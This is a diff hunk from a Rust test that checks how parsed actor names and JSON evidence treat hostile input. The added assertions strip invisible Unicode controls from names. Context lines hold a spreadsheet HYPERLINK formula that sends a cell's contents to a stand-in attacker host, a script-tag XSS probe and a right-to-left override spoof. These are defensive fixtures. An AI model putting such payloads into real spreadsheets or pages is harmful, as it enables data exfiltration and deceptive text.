@@ -95,6 +95,9 @@ fn json_keeps_the_hostile_text_and_its_offsets() {
     for piece in ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "<script>alert(1)</script>", "Van\u{202e}trow\u{202c}"] {
         assert!(all.contains(piece), "{piece:?} is kept in the evidence");
     }
+    // Invisible controls inside a name neither split it nor stay in it.
+    assert!(a.actors.iter().any(|x| x.name == "Ilse Vantrow"), "the name with a right-to-left override inside is one name");
+    assert!(a.actors.iter().all(|x| !x.name.chars().any(|c| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))));
     // The 10,000-character "name" is kept whole in its article's text; an actor that
     // holds any of it holds it whole.
     let long = "x".repeat(9_999);
